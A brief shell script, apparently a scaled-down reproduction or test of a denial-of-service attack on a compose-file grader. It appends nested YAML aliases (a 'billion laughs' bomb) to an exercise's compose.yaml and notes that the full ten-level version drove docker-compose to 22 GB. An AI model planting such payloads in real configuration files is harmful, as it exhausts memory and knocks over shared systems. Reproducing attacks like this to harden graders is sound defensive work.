# run in the submission's folder; $CANARY is the canary folder
# nested YAML aliases under an x- key: each level refers to the one before six times (kept small here: 6^6 nodes once
# expanded; the real attack's ten levels ran a `docker-compose` process to 22 GB)
set -e
cat >> exercises/05-compose-stack/compose.yaml <<'YAML'
x-a: &a ["lol", "lol", "lol", "lol", "lol", "lol"]
x-b: &b [*a, *a, *a, *a, *a, *a]
x-c: &c [*b, *b, *b, *b, *b, *b]
x-d: &d [*c, *c, *c, *c, *c, *c]
x-e: &e [*d, *d, *d, *d, *d, *d]
x-f: [*e, *e, *e, *e, *e, *e]
YAML
